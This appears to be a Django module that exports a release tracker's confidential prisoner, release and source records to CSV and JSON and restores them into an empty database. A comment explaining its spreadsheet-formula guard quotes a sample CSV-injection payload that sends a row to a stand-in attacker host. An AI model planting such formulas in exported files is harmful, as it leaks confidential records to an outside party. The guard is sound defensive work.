"""The whole dataset as files: a full backup that restores into an empty database.

``export_dataset DIR`` writes every table of the three record apps (prisoners, releases,
sources, including the many-to-many link tables and the country list) as

- ``DIR/<app>_<model>.csv``, one per table, for reading in a spreadsheet (a text that
  a spreadsheet would run as a formula gets a leading apostrophe), and
- ``DIR/dataset.json``, everything in one file, which is what ``import_dataset`` reads:
  unlike CSV it tells an empty text from a missing value and keeps JSON fields as JSON.

Rows keep their primary keys, so every foreign key (and so every citation) points to the
same record after a restore. Not included: the edit history, user accounts (a feed
item's reviewer is left blank), sessions and partner API keys.

**The export is confidential.** It holds unpublished records and the names of people
whose names are withheld: everything the public site hides. The files are written
readable by their owner only; keep them like the database itself.

``import_dataset DIR`` loads such a folder into a freshly migrated database, in one
transaction, and refuses a database that already holds records. Each restored row gets
a first history version whose reason names the folder.
"""

from __future__ import annotations

import csv
import datetime
import json
import os
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

from django.apps import apps
from django.core.management.color import no_style
from django.db import connection, models, transaction
from django.utils import timezone
from simple_history.models import HistoricalChanges
from simple_history.utils import bulk_create_with_history

from releases.importing import history_m2m_snapshot
from releases.progress import Progress, no_progress

FORMAT = "release-tracker-dataset"
VERSION = 1
JSON_NAME = "dataset.json"
APPS = ("prisoners", "releases", "sources")
BATCH = 1000


class DatasetError(Exception):
    """The folder or the database is not fit for the requested export or import."""


@dataclass
class Table:
    model: type[models.Model]
    fields: list[models.Field]
    # Foreign keys to models outside the dataset (user accounts): exported blank.
    dropped: set[str] = field(default_factory=set)

    @property
    def label(self) -> str:
        return self.model._meta.label_lower

    @property
    def file_name(self) -> str:
        return f"{self.model._meta.db_table}.csv"

    @property
    def columns(self) -> list[str]:
        return [f.attname for f in self.fields]


def dataset_tables() -> list[Table]:
    """Every table of the record apps, each after the tables its foreign keys point to."""
    found: dict[type[models.Model], Table] = {}
    for app_label in APPS:
        for model in apps.get_app_config(app_label).get_models(include_auto_created=True):
            if issubclass(model, HistoricalChanges):
                continue
            found[model] = Table(model=model, fields=list(model._meta.concrete_fields))
    for table in found.values():
        for f in table.fields:
            if f.is_relation and f.related_model not in found:
                if not f.null:
                    raise DatasetError(f"{table.label}.{f.name} points outside the dataset")
                table.dropped.add(f.attname)
    ordered: list[Table] = []
    placed: set[type[models.Model]] = set()
    pending = list(found.values())
    while pending:
        ready = [
            t
            for t in pending
            if all(
                f.related_model in placed or f.related_model is t.model
                for f in t.fields
                if f.is_relation and f.related_model in found
            )
        ]
        if not ready:
            raise DatasetError(
                "foreign keys form a cycle among: " + ", ".join(t.label for t in pending)
            )
        for t in ready:
            ordered.append(t)
            placed.add(t.model)
            pending.remove(t)
    return ordered


# --- values -------------------------------------------------------------------------------


def _to_json(value):
    if isinstance(value, datetime.datetime | datetime.date):
        return value.isoformat()
    return value


# A spreadsheet runs a cell that starts with one of these as a formula: a name typed as
# =HYPERLINK("https://attacker.example/?"&A2, "x") could send the row away when an
# operator opens the file.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _to_csv(f: models.Field, value) -> str:
    if value is None:
        return ""
    if isinstance(f, models.JSONField):
        return json.dumps(value, ensure_ascii=False, sort_keys=True)
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return str(_to_json(value))


def _from_json(f: models.Field, value):
    if value is None:
        return None
    if isinstance(f, models.DateTimeField):
        return datetime.datetime.fromisoformat(value)
    if isinstance(f, models.DateField):
        return datetime.date.fromisoformat(value)
    return value


def _rows(table: Table) -> Iterator[list]:
    queryset = table.model._default_manager.order_by("pk").values_list(*table.columns)
    for values in queryset.iterator(chunk_size=BATCH):
        yield [
            None if column in table.dropped else value
            for column, value in zip(table.columns, values, strict=True)
        ]


# --- export -------------------------------------------------------------------------------


@dataclass
class DatasetSummary:
    tables: int = 0
    rows: int = 0
    counts: dict[str, int] = field(default_factory=dict)

    def line(self, verb: str, folder: Path) -> str:
        people = self.counts.get("prisoners.person", 0)
        citations = self.counts.get("sources.citation", 0)
        return (
            f"{verb} {self.tables} tables, {self.rows:,} rows ({people:,} people, "
            f"{citations:,} citations) {'to' if verb.startswith('export') else 'from'} {folder}"
        )


def _private_file(path: Path):
    # Owner-only from the first byte: the export holds withheld names.
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    return os.fdopen(fd, "w", encoding="utf-8", newline="")


def dataset_export(*, folder: Path, progress: Progress = no_progress) -> DatasetSummary:
    """Write every table as CSV and all of them as one JSON file into a new folder."""
    folder = Path(folder)
    if folder.exists() and (not folder.is_dir() or any(folder.iterdir())):
        raise DatasetError(f"{folder} exists and is not an empty folder: choose a new one")
    folder.mkdir(mode=0o700, parents=True, exist_ok=True)
    tables = dataset_tables()
    summary = DatasetSummary(tables=len(tables))
    # One transaction: with PostgreSQL's repeatable read every table is read as of the
    # same moment, so a citation never points at a row created after its table was read.
    snapshot = connection.vendor == "postgresql" and not connection.in_atomic_block
    with transaction.atomic():
        if snapshot:
            with connection.cursor() as cursor:
                cursor.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ READ ONLY")
        totals = {t.label: t.model._default_manager.count() for t in tables}
        grand_total = sum(totals.values())
        done = 0
        with _private_file(folder / JSON_NAME) as out:
            exported_at = json.dumps(timezone.now().isoformat())
            out.write(
                f'{{"format": {json.dumps(FORMAT)}, "version": {VERSION}, '
                f'"exported_at": {exported_at}, "tables": {{'
            )
            for index, table in enumerate(tables):
                out.write(("," if index else "") + "\n" + json.dumps(table.label) + ": ")
                out.write(f'{{"columns": {json.dumps(table.columns)}, "rows": [')
                count = 0
                with _private_file(folder / table.file_name) as csv_out:
                    writer = csv.writer(csv_out, lineterminator="\r\n")
                    writer.writerow(table.columns)
                    for values in _rows(table):
                        writer.writerow(
                            [_to_csv(f, v) for f, v in zip(table.fields, values, strict=True)]
                        )
                        out.write(("," if count else "") + "\n")
                        out.write(json.dumps([_to_json(v) for v in values], ensure_ascii=False))
                        count += 1
                        done += 1
                        if done % BATCH == 0:
                            progress("exporting", done, grand_total)
                out.write("\n]}")
                summary.counts[table.label] = count
                summary.rows += count
            out.write("\n}}\n")
        progress("exporting", grand_total, grand_total)
    return summary


# --- import -------------------------------------------------------------------------------


@contextmanager
def _keeping_timestamps(tables: list[Table]):
    """Store created_at/updated_at as exported: auto_now would stamp the restore time."""
    changed = []
    for table in tables:
        for f in table.fields:
            if getattr(f, "auto_now", False) or getattr(f, "auto_now_add", False):
                changed.append((f, f.auto_now, f.auto_now_add))
                f.auto_now = f.auto_now_add = False
    try:
        yield
    finally:
        for f, auto_now, auto_now_add in changed:
            f.auto_now, f.auto_now_add = auto_now, auto_now_add


def _records_present(tables: list[Table]) -> dict[str, int]:
    present = {}
    for table in tables:
        if table.model is apps.get_model("prisoners", "Country"):
            continue  # loaded by a migration into every database
        count = table.model._default_manager.count()
        if count:
            present[table.label] = count
    return present


def _read(folder: Path) -> dict:
    path = Path(folder) / JSON_NAME
    try:
        with path.open(encoding="utf-8") as source:
            data = json.load(source)
    except FileNotFoundError:
        raise DatasetError(
            f"{path} not found: is {folder} a folder made by export_dataset?"
        ) from None
    except (UnicodeDecodeError, json.JSONDecodeError) as error:
        raise DatasetError(f"{path} is not a dataset file: {error}") from None
    if not isinstance(data, dict) or data.get("format") != FORMAT:
        raise DatasetError(f"{path} is not a {FORMAT} file")
    if data.get("version") != VERSION:
        raise DatasetError(
            f"{path} is version {data.get('version')!r}; this tracker reads {VERSION}"
        )
    return data


def dataset_import(*, folder: Path, progress: Progress = no_progress) -> DatasetSummary:
    """Load an exported folder into a database that holds no records yet; all or nothing."""
    folder = Path(folder)
    data = _read(folder)
    tables = dataset_tables()
    by_label = {t.label: t for t in tables}
    unknown = sorted(set(data["tables"]) - set(by_label))
    if unknown:
        raise DatasetError(f"the dataset has tables this tracker does not: {', '.join(unknown)}")
    for label, content in data["tables"].items():
        extra = sorted(set(content["columns"]) - set(by_label[label].columns))
        if extra:
            raise DatasetError(f"{label} has columns this tracker does not: {', '.join(extra)}")
    reason = f"import_dataset {folder.name}"[:100]
    summary = DatasetSummary(tables=len(data["tables"]))
    grand_total = sum(len(c["rows"]) for c in data["tables"].values())
    done = 0
    with transaction.atomic(), _keeping_timestamps(tables):
        present = _records_present(tables)
        if present:
            listing = ", ".join(f"{label}: {n:,}" for label, n in present.items())
            raise DatasetError(
                "import_dataset restores into an empty database, and this one already holds "
                f"records ({listing}). Restore into a freshly migrated database."
            )
        restored = []
        for table in tables:
            content = data["tables"].get(table.label)
            if content is None:
                continue
            objects = [
                table.model(**_row_values(table, content["columns"], values))
                for values in content["rows"]
            ]
            if table.model is apps.get_model("prisoners", "Country"):
                _countries_restore(table.model, objects)
            elif hasattr(table.model, "history") and not table.model._meta.auto_created:
                for start in range(0, len(objects), BATCH):
                    bulk_create_with_history(
                        objects[start : start + BATCH],
                        table.model,
                        batch_size=BATCH,
                        default_change_reason=reason,
                    )
            else:
                table.model._default_manager.bulk_create(objects, batch_size=BATCH)
            restored.append(table.model)
            summary.counts[table.label] = len(objects)
            summary.rows += len(objects)
            done += len(objects)
            progress("importing", done, grand_total)
        _m2m_history(tables)
        # Foreign keys are checked at commit; check now, so that a broken file is
        # refused with a message instead of failing at the very end.
        connection.check_constraints(table_names=[m._meta.db_table for m in restored])
        _sequences_reset(restored)
    return summary


def _row_values(table: Table, columns: list[str], values: list) -> dict:
    by_attname = {f.attname: f for f in table.fields}
    row = dict(zip(columns, values, strict=True))
    return {
        attname: _from_json(f, row[attname]) if attname in row else f.get_default()
        for attname, f in by_attname.items()
    }


def _countries_restore(model, objects: list) -> None:
    existing = {c.code: c for c in model._default_manager.all()}
    missing = [c for c in objects if c.code not in existing]
    renamed = [c for c in objects if c.code in existing and existing[c.code].name != c.name]
    model._default_manager.bulk_create(missing)
    model._default_manager.bulk_update(renamed, ["name"])


def _m2m_history(tables: list[Table]) -> None:
    for table in tables:
        model = table.model
        if model._meta.auto_created or not hasattr(model, "history"):
            continue
        for m2m in getattr(model.history.model, "_history_m2m_fields", []):
            instances = list(
                model._default_manager.filter(**{f"{m2m.name}__isnull": False}).distinct()
            )
            history_m2m_snapshot(model, m2m.name, instances)


def _sequences_reset(restored: list[type[models.Model]]) -> None:
    # Rows came with their keys; PostgreSQL's sequences must move past them, or the next
    # record an editor adds would collide with a restored one.
    statements = connection.ops.sequence_reset_sql(no_style(), restored)
    if statements:
        with connection.cursor() as cursor:
            for statement in statements:
                cursor.execute(statement)
